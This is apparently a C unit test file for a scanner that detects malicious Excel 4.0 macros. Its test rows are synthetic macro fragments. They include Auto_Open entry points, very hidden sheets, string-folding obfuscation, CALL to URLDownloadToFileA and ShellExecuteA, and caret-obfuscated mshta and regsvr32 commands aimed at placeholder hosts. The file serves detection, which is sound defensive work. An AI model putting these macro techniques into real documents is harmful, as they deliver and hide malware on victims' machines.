/* SPDX-License-Identifier: Apache-2.0 */
#include "base/buf.h"
#include "observe/part/harness.h"
#include "observe/part/observe.h"

#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>

/* A part that is the text of formulas. */
static enum walk_end code_walk(struct walk *w, const struct body *body)
{
    walk_event(w, EVENT_MACRO);
    walk_view(w, FACT_XLM_CODE, body->all, range_of(0, body->all.len));
    return WALK_WHOLE;
}

static const struct format code_format = { .name = "xlm-macro", .spec = "-", .walk = code_walk };

static void view(void *host, struct walk *w, enum fact_id id, slice utf8, struct range at, uint32_t event)
{
    (void)event;
    observers_view(host, w, id, utf8, at);
}

static void no_fact(void *host, struct walk *w, struct fact *f) { (void)host, (void)w, (void)f; }

struct run {
    struct tally t;
    struct arena *mem, *kept;
};

static void run_start(struct run *r, slice code)
{
    struct observers observers = { 0 };
    struct walk_hooks hooks = { .host = &observers, .view = view, .fact = no_fact };
    struct scan_request request = { .body = body_borrow(code), .only = &code_format };
    r->mem = arena_new(64u << 20);
    r->kept = arena_new(64u << 20);
    assert_true(r->mem && r->kept);
    r->t = (struct tally){ .budget = budget_default() };
    record_init(&r->t.r, r->kept);
    struct sink sink = record_sink(&r->t.r);
    scan_run(&request, &hooks, &sink, r->mem, &r->t.budget);
    tally_check(&r->t);
}

static void run_end(struct run *r)
{
    arena_drop(&r->mem);
    arena_drop(&r->kept);
}

#define M "sheet M: macro\n"
#define HIDDEN_M "sheet M: macro, very hidden\n"
#define S "sheet S: worksheet\n"
#define AUTO "name Auto_Open: =M!$A$1\n"

static const struct {
    const char *what, *code;
    enum fact_id id;
    const char *text; /* NULL: no fact of this kind */
} rows[] = {
    { "entry", M AUTO, FACT_XLM_ENTRY, "Auto_Open -> M!$A$1" },
    { "entry with a tail", M "name Auto_OpenXy (hidden): =M!$A$1\n", FACT_XLM_ENTRY, "Auto_OpenXy -> M!$A$1" },
    { "other name", M "name total: =M!$A$1\n", FACT_XLM_ENTRY, NULL },
    { "hidden sheet", HIDDEN_M, FACT_XLM_SHEET_HIDDEN, "M (very hidden)" },
    { "hidden worksheet is none", M "sheet S: worksheet, hidden\n", FACT_XLM_SHEET_HIDDEN, NULL },
    { "hidden name", M "name x (hidden): =1\n", FACT_XLM_NAME_HIDDEN, "x" },
    /* reach */
    { "plain", M AUTO "M!A1: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "blank cells between", M AUTO "M!A1: =BEEP()\nM!A900: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "no entry", M "M!A1: =EXEC(\"x\")\n", FACT_XLM_REACH, NULL },
    { "another column", M AUTO "M!A1: =BEEP()\nM!B2: =EXEC(\"x\")\n", FACT_XLM_REACH, NULL },
    { "behind the end", M AUTO "M!A1: =HALT()\nM!A2: =EXEC(\"x\")\n", FACT_XLM_REACH, NULL },
    { "an end inside a condition is none", M AUTO "M!A1: =IF(B1,HALT())\nM!A2: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "by GOTO", M AUTO "M!A1: =GOTO(C5)\nM!C5: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "by RUN into blank cells", M AUTO "M!A1: =RUN(C5)\nM!C9: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "by a cell as function", M AUTO "M!A1: =C5()\nM!C5: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "by a name as function", M AUTO "name go: =M!$C$5\nM!A1: =go()\nM!C5: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "by text", M AUTO "M!A1: =RUN(\"M!R5C3\")\nM!C5: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "later", M AUTO "M!A1: =ON.TIME(NOW()+1,\"M!R5C3\")\nM!C5: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "computed jump reaches all", M AUTO "M!A1: =RUN(GET.CELL(1))\nM!Z99: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "in a circle", M AUTO "M!A1: =GOTO(A1)\nM!A2: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "hidden in a comparison", M AUTO "M!A1: =NOW()=NOW()=EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "hidden in a condition", M AUTO "M!A1: =IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),EXEC(\"x\"))\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "other sheet, quoted", M "sheet 'a ''b': macro\n" "name Auto_Close: ='a ''b'!$A$1\n'a ''b'!A1: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Close -> EXEC" },
    { "entry that leads nowhere", M "name Auto_Open: =#REF!\nM!Q5: =EXEC(\"x\")\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    /* folding */
    { "joined", M "M!A1: =EXEC(\"re\"&\"gs\"&B1)\nM!B1: \"vr32\"\n", FACT_XLM_CALL, "EXEC(\"regsvr32\")" },
    { "characters", M "M!A1: =EXEC(CHAR(97)&CHAR(98+1)&CHAR(2*B1))\nM!B1: 50\n", FACT_XLM_CALL, "EXEC(\"acd\")" },
    { "CONCATENATE over sheets", S M "S!C3: \"ab\"\nM!A1: =EXEC(CONCATENATE(S!C3,S!C4,\"c\"))\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "pieces", M "M!A1: =EXEC(MID(\"xabcx\",2,3)&LEFT(\"def\",1)&RIGHT(\"def\",1)&SUBSTITUTE(\"q-q\",\"-\",\"\"))\n", FACT_XLM_CALL, "EXEC(\"abcdfqq\")" },
    { "quotes", M "M!A1: =EXEC(\"a\"\"b\")\n", FACT_XLM_CALL, "EXEC(\"a\"b\")" },
    { "what is not known", M "M!A1: =EXEC(\"a\"&NOW()&\"b\")\n", FACT_XLM_CALL, "EXEC(\"a\xe2\x9f\x82" "b\")" },
    { "last calculated", M "M!A1: =EXEC(B1)\nM!B1: =GET.NOTE(C1)\t\"abc\"\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "written by a formula", M "M!A1: =FORMULA(\"abc\",B1)\nM!A2: =EXEC(B1)\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "a formula written by a formula", M AUTO "M!A1: =FORMULA(\"=EXE\"&\"C(\"\"abc\"\")\",A3)\nM!A2: =BEEP()\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "the same is reached", M AUTO "M!A1: =FORMULA(\"=EXE\"&\"C(\"\"abc\"\")\",A3)\nM!A2: =BEEP()\n", FACT_XLM_REACH, "Auto_Open -> EXEC" },
    { "with relative references of its own kind", M "M!A1: =FORMULA(\"=EXEC(R[-1]C[1])\",B3)\nM!C2: \"abc\"\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "set value", M "M!A1: =SET.VALUE(B1,\"abc\")\nM!A2: =EXEC(B1)\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "name set", M "name x: =0\nM!A1: =SET.NAME(\"x\",\"abc\")\nM!A2: =EXEC(x)\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "name assigned", M "name x: =0\nM!A1: =x=\"abc\"\nM!A2: =EXEC(x)\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "name that holds text", M "name x: =\"abc\"\nM!A2: =EXEC(x)\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "indirect", M "M!A1: =EXEC(INDIRECT(\"B\"&7))\nM!B7: \"abc\"\n", FACT_XLM_CALL, "EXEC(\"abc\")" },
    { "refers to itself", M "M!A1: =EXEC(A1&\"b\")\n", FACT_XLM_CALL, "EXEC(\"\xe2\x9f\x82" "b\")" },
    /* libraries */
    { "download", M "M!A1: =CALL(\"ur\"&\"lmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/a\",\"..\\a\")\n", FACT_XLM_API, "urlmon!URLDownloadToFileA" },
    { "its kind", M "M!A1: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0)\n", FACT_XLM_SINK_KIND, "download" },
    { "registered", M "M!A1: =REGISTER(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",\"x\",,1,9)\n", FACT_XLM_SINK_KIND, "run" },
    { "computed function", M "M!A1: =CALL(GET.NOTE(B1),GET.NOTE(B2),\"J\")\n", FACT_XLM_SINK_KIND, "computed" },
    { "computed program", M AUTO "M!A1: =EXEC(GET.NOTE(B1))\n", FACT_XLM_REACH_KIND, "run-computed" },
    { "harmless library", M "M!A1: =CALL(\"Kernel32\",\"Beep\",\"JJJ\",1,1)\n", FACT_XLM_SINK_KIND, "library" },
    { "dialog form of a command", M "M!A1: =OPEN?(\"a.txt\")\n", FACT_XLM_SINK_KIND, "open" },
    /* text */
    { "URL in pieces", M "M!A1: =\"http\"&\"://example\"&\".invalid/a\"\n", FACT_XLM_URL, "http://example.invalid/a" },
    { "URL in a worksheet", S M "S!A1: \"http://example.invalid/a\"\nM!A1: =S!A1&\"\"\n", FACT_XLM_URL, "http://example.invalid/a" },
    { "no URL", M "M!A1: \"http and ://\"\n", FACT_XLM_URL, NULL },
    { "command with carets", M "M!A1: =EXEC(\"cmd /c m^sh^ta http://example.invalid/\")\n", FACT_XLM_COMMAND, "mshta" },
    { "command of a path", M "M!A1: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe /s ..\\a\")\n", FACT_XLM_COMMAND, "regsvr32" },
    { "word inside another", M "M!A1: \"the recmd and wscripting of it\"\n", FACT_XLM_COMMAND, NULL },
    { "explorers are people too", M "M!A1: \"our explorers like curls.\"\n", FACT_XLM_COMMAND, NULL },
    { "question", M "M!A1: =GET.WORKSPACE(13)\n", FACT_XLM_ENVIRONMENT, "GET.WORKSPACE(13)" },
    { "self-writing", M "M!A1: =FORMULA(\"a\",B1)\n", FACT_XLM_OBFUSCATION, "self-writing" },
    { "nothing special", M "M!A1: =ALERT(\"hello\")\nM!A2: =RETURN()\n", FACT_XLM_OBFUSCATION, NULL },
    /* damage */
    { "nothing", "", FACT_XLM_SINK, NULL },
    { "no sheets", "M!A1: =EXEC(\"x\")\n", FACT_XLM_SINK, NULL },
    { "half lines", M "M!A1\nM!: =EXEC(\"x\")\n'M!A1: =EXEC(\"x\")\nname\nname x\nsheet\n", FACT_XLM_SINK, NULL },
    { "open brackets", M "M!A1: =EXEC(((((\"x\"\n", FACT_XLM_SINK, "EXEC" },
    { "open text", M "M!A1: =EXEC(\"x\n", FACT_XLM_CALL, "EXEC(\"x\")" },
    { "signs alone", M "M!A1: =&&&+-*/^%:,)(\nM!A2: =EXEC(\"x\")\n", FACT_XLM_SINK, "EXEC" },
    { "errors and arrays", M "M!A1: =EXEC(#REF!&{1,\"a\"}&\"b\")\n", FACT_XLM_SINK, "EXEC" },
    { "sheet of another book", M "M!A1: =EXEC('[other.xls]X'!A1&\"b\")\n", FACT_XLM_CALL, "EXEC(\"\xe2\x9f\x82" "b\")" },
    { "absurd character", M "M!A1: =EXEC(CHAR(-5)&CHAR(1e300)&\"b\")\n", FACT_XLM_SINK, "EXEC" },
};

static void each_technique(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct run r;
        slice code = slice_of(rows[i].code);
        run_start(&r, code);
        bool good = rows[i].text ? tally_has(&r.t, rows[i].id, rows[i].text) : tally_facts(&r.t, rows[i].id) == 0;
        if (!good)
            fail_msg("%s: \"%.*s\"", rows[i].what, SLICE_FMT(tally_text(&r.t, rows[i].id, 0)));
        run_end(&r);
        for (size_t n = i % 5; n < code.len; n += 5) { /* beginnings */
            run_start(&r, slice_sub(code, 0, n));
            run_end(&r);
        }
    }
}

/* Shapes that would cost more than they are long: each ends soon and within the memory. */
static void floods(void **state)
{
    enum { DEEP, DOUBLING, CHAIN, JOINS, NAMES, WRITES, REPEATED, SHAPES };
    (void)state;
    for (int shape = 0; shape < SHAPES; shape++) {
        struct buf b = buf_new(4 << 20);
        buf_text(&b, M AUTO);
        if (shape == DEEP || shape == JOINS)
            buf_text(&b, "M!A1: =EXEC(");
        for (int i = 0; i < 5000; i++) {
            if (shape == DEEP)
                buf_text(&b, "(\"a\"&");
            else if (shape == DOUBLING)
                buf_format(&b, "M!A%d: =A%d&A%d&\"ab\"\n", i + 2, i + 1, i + 1);
            else if (shape == CHAIN)
                buf_format(&b, "M!A%d: =A%d&\"a\"\n", i + 1, i + 2);
            else if (shape == JOINS)
                buf_text(&b, "\"abcd\"&");
            else if (shape == NAMES)
                buf_format(&b, "name n%d: =n%d&n%d\n", i, i + 1, i + 2);
            else if (shape == WRITES)
                buf_format(&b, "M!A%d: =FORMULA(\"=FORMULA(\"\"x\"\",A%d)\",A%d)\n", i + 1, i + 2, i + 3);
            else
                buf_format(&b, "M!A%d: =REPT(REPT(\"a\",16000),16000)\n", i + 1);
        }
        struct run r;
        run_start(&r, buf_slice(&b));
        assert_false(arena_full(r.mem));
        run_end(&r);
        buf_drop(&b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_technique),
        cmocka_unit_test(floods),
    };
    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
